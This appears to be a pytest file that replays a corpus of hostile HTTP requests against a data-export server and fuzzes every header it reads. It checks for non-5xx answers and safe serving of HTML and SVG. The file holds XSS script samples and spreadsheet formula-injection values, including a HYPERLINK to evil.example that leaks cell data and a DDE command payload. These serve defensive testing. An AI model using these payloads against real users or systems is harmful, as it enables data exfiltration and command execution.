"""The corpus of hostile requests (tests/corpus/requests.http), replayed over raw sockets
against a real server on every run: each gets a complete HTTP answer below 500, in time,
and the server is still healthy afterwards."""

from __future__ import annotations

import os
import re
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest

from tests.support import Server
from tests.test_access import new_token

CORPUS = Path(__file__).parent / "corpus" / "requests.http"
TIMEOUT = 30  # seconds for a whole answer: more is a hang
HTML = b"<!doctype html><title>x</title><script>document.title = 'ran'</script>\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'


@dataclass
class Entry:
    line: int
    request_line: str
    headers: list[tuple[str, str]] = field(default_factory=list)
    body: str | None = None
    expect: set[str] = field(default_factory=set)

    @property
    def label(self) -> str:
        head = self.request_line.rsplit(" ", 1)[0]
        return f"L{self.line}:{head[:60]}"


def load(path: Path) -> list[Entry]:
    entries: list[Entry] = []
    current: Entry | None = None
    expect: set[str] = set()
    for number, raw in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
        if raw.startswith("#! expect:"):
            expect.add(raw.split(":", 1)[1].strip())
        elif raw.startswith("#"):
            continue
        elif not raw.strip():
            current = None
        elif current is None:
            current = Entry(number, raw, expect=expect)
            expect = set()
            entries.append(current)
        else:
            name, _, value = raw.partition(":")
            if name == "Body":
                current.body = value.strip()
            else:
                current.headers.append((name, value.strip()))
    return entries


def expand(text: str, token: str) -> str:
    """{{token}}, {{in:N}} (0,...,N-1), {{TEXT*N}} (TEXT repeated N times)."""
    def one(match: re.Match[str]) -> str:
        inner = match.group(1)
        if inner == "token":
            return token
        if inner.startswith("in:"):
            return ",".join(str(i) for i in range(int(inner[3:])))
        repeated, _, count = inner.rpartition("*")
        return repeated * int(count)

    return re.sub(r"\{\{(.+?)\}\}(?!\})", one, text)


ENTRIES = load(CORPUS)


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: bytes


def send(url: str, entry: Entry, token: str) -> Answer:
    host, _, port = url.removeprefix("http://").partition(":")
    body = expand(entry.body, token).encode() if entry.body is not None else b""
    lines = [expand(entry.request_line, token), f"Host: {host}:{port}", "Connection: close"]
    lines += [f"{name}: {expand(value, token)}" for name, value in entry.headers]
    if entry.body is not None:
        lines.append(f"Content-Length: {len(body)}")
    request = ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8") + body
    deadline = time.monotonic() + TIMEOUT
    data = bytearray()
    with socket.create_connection((host, int(port)), timeout=TIMEOUT) as s:
        s.sendall(request)
        while chunk := s.recv(65536):
            data += chunk
            assert time.monotonic() < deadline, "no complete answer in time"
    head, separator, rest = bytes(data).partition(b"\r\n\r\n")
    assert separator, f"no complete answer head: {bytes(data[:300])!r}"
    status_line, *header_lines = head.decode("latin-1").split("\r\n")
    headers = {}
    for line in header_lines:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    if "content-length" in headers and not entry.request_line.startswith("HEAD"):
        assert len(rest) == int(headers["content-length"]), "a truncated body"
    if headers.get("transfer-encoding") == "chunked":
        assert rest.endswith(b"0\r\n\r\n"), "a chunked body without its last chunk"
    return Answer(int(status_line.split()[1]), headers, rest)


@pytest.fixture(scope="module")
def corpus_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Files of its own: the HTML and SVG cases need documents that could run script."""
    root = tmp_path_factory.mktemp("corpus-files")
    (root / "README.txt").write_bytes(b"hello\n" * 100)
    (root / "page.html").write_bytes(HTML)
    (root / "page.htm").write_bytes(HTML)
    (root / "image.svg").write_bytes(SVG)
    (root / "nested").mkdir()
    (root / "nested" / "data.json").write_bytes(b'{"a": 1}\n')
    return root


@pytest.fixture(scope="module")
def corpus_server(database_url: str, logs_dir: Path, corpus_root: Path) -> Iterator[Server]:
    env = {"EXPORTER_FILES_ROOT": str(corpus_root), "EXPORTER_PUBLIC_DATASETS": '["*"]',
           "EXPORTER_PUBLIC_FILES": '["*"]'}
    with Server(database_url, logs_dir / "corpus.log", env) as s:
        yield s


@pytest.fixture(scope="module")
def token(database_url: str) -> str:
    return new_token(database_url, f"corpus-{os.urandom(4).hex()}", "admin", "datasets:*",
                     "files:*")


def test_corpus_is_not_empty() -> None:
    assert len(ENTRIES) > 40
    assert all(e.request_line.endswith(" HTTP/1.1") for e in ENTRIES)


@pytest.mark.parametrize("entry", ENTRIES, ids=[e.label for e in ENTRIES])
def test_corpus_request_gets_a_4xx_or_success(corpus_server: Server, token: str,
                                              entry: Entry) -> None:
    answer = send(corpus_server.url, entry, token)
    assert answer.status < 500, (answer.status, answer.body[:1000])
    if "safe-inline" in entry.expect and answer.status == 200:
        kind = answer.headers.get("content-type", "")
        disposition = answer.headers.get("content-disposition", "")
        csp = answer.headers.get("content-security-policy", "")
        assert (disposition.startswith("attachment") or "sandbox" in csp
                or not any(t in kind for t in ("html", "svg", "xml"))), answer.headers
    # Whatever it was, the server still answers everyone else.
    assert httpx.get(corpus_server.url + "/healthz", timeout=TIMEOUT).status_code == 200


# Every header the server reads, on every kind of route, with a value a spreadsheet
# would run (and odd bytes after it): an answer below 500 each time.
READ_HEADERS = ["Accept", "Accept-Encoding", "Range", "Range-Unit", "If-Range", "Prefer",
                "If-None-Match", "If-Match", "If-Modified-Since", "If-Unmodified-Since",
                "Authorization", "Cookie", "X-Forwarded-For", "X-Forwarded-Proto",
                "X-Forwarded-Host", "User-Agent", "Origin", "Content-Type",
                "Access-Control-Request-Method", "Access-Control-Request-Headers"]
FORMULA_VALUES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                  "-1+1", "@SUM(A1)", "=1+2\x1b[31m"]
TARGETS = ["GET /datasets/orders.csv?limit=2", "HEAD /datasets/orders?limit=2",
           "GET /datasets/orders?limit=2", "GET /datasets", "GET /files/README.txt",
           "GET /files/", "GET /exports", "GET /downloads.csv?limit=2", "GET /",
           "OPTIONS /datasets/orders.csv"]


@pytest.mark.parametrize("header", READ_HEADERS)
def test_every_header_read_with_a_formula_is_never_a_5xx(corpus_server: Server, token: str,
                                                          header: str) -> None:
    for target in TARGETS:
        for value in FORMULA_VALUES:
            entry = Entry(0, f"{target} HTTP/1.1", [(header, value)])
            if header not in ("Authorization", "Cookie"):
                entry.headers.append(("Authorization", "Bearer {{token}}"))
            answer = send(corpus_server.url, entry, token)
            assert answer.status < 500, (target, header, value, answer.status,
                                         answer.body[:300])
